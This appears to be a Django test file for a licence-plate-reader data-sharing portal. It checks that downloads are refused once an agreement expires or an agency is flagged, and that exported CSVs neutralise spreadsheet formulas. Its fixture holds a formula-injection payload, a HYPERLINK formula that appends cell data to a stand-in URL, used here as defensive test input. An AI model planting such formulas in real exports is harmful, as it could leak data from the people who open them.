"""Issue #14, findings 3 and 4 (R-SHR-8): a release is re-checked for eligibility when it is downloaded (page and
API), and the CSV inside a release package has no live spreadsheet formula."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from apps.agreements.models import Agreement
from apps.audit.models import AccessLog, DomainEvent
from apps.disclosures.links import package_download_url
from apps.disclosures.models import ReleasePackage
from apps.disclosures.packages import release_package_build
from apps.disclosures.services.decisions import disclosure_request_approve
from apps.reads.models import Camera
from tests.disclosures.test_package import SIGN, open_package

FORMULA = '=HYPERLINK("http://x"&A1,"Click")'


@pytest.fixture
def released(custodian, partner, agreement, store_reads, submit, camera):
    Camera.objects.filter(pk=camera.pk).update(name=FORMULA)
    store_reads([("7ABC123", 2, False)])
    request = submit(partner)
    disclosure_request_approve(actor=custodian, disclosure_request=request, **SIGN)
    package = release_package_build(package_id=ReleasePackage.objects.get(request=request).pk, actor=custodian)
    request.refresh_from_db()
    return request, package


@pytest.mark.django_db
def test_finding_4_a_camera_named_like_a_formula_reaches_the_partner_as_text(released):
    request, package = released
    rows = list(csv.DictReader(io.StringIO(open_package(package).read("reads.csv").decode())))
    assert [row["camera"] for row in rows] == ["'" + FORMULA]


def _expire(agreement):
    Agreement.objects.filter(pk=agreement.pk).update(start_date=timezone.localdate() - timedelta(days=365),
                                                     sunset_date=timezone.localdate())


@pytest.mark.django_db
def test_finding_3_an_agreement_that_expired_after_the_release_stops_the_page_download(client, released, partner,
                                                                                        agreement):
    request, package = released
    client.force_login(partner)
    url = package_download_url(package=package, user=partner)
    _expire(agreement)

    response = client.get(url, follow=True)

    page = response.content.decode()
    assert response.redirect_chain and response.redirect_chain[-1][0] == reverse("disclosures:detail",
                                                                                 args=[request.pk])
    assert "The download is refused" in page and "reached its sunset" in page
    assert 'id="download-package"' not in page
    assert not AccessLog.objects.filter(action="disclosures.package.download").exists()
    event = DomainEvent.objects.get(code="alprportal.disclosures.package.download_refused")
    assert event.data["reasons"] and "reached its sunset" in event.data["reasons"][0]


@pytest.mark.django_db
def test_finding_3_the_api_download_is_refused_with_a_code_and_the_reason(api_client, released, partner, agreement):
    request, package = released
    api_client.force_authenticate(partner)
    url = reverse("api:disclosure-package-download", args=[request.pk])
    token_url = package_download_url(package=package, user=partner, api=True)
    assert url in token_url
    _expire(agreement)

    response = api_client.get(token_url)

    assert response.status_code == 403
    body = response.json()["error"]
    assert body["code"] == "release_no_longer_eligible" and "reached its sunset" in body["message"]
    detail = api_client.get(reverse("api:disclosure-request-detail", args=[request.pk])).json()
    assert "download_url" not in detail["package"] and "reached its sunset" in detail["package"]["refused"]
    assert not AccessLog.objects.filter(action="disclosures.package.download").exists()


@pytest.mark.django_db
def test_a_flagged_agency_can_no_longer_download(client, released, partner):
    from apps.agencies.models import Agency

    request, package = released
    Agency.objects.filter(pk=partner.agency_id).update(ag_noncompliance_flagged=True)
    client.force_login(partner)
    response = client.get(package_download_url(package=package, user=partner), follow=True)
    assert "The download is refused" in response.content.decode()
    assert not AccessLog.objects.filter(action="disclosures.package.download").exists()


@pytest.mark.django_db
def test_an_eligible_release_still_downloads(client, released, partner):
    request, package = released
    client.force_login(partner)
    response = client.get(package_download_url(package=package, user=partner))
    assert response.status_code == 200
    assert AccessLog.objects.filter(action="disclosures.package.download").count() == 1
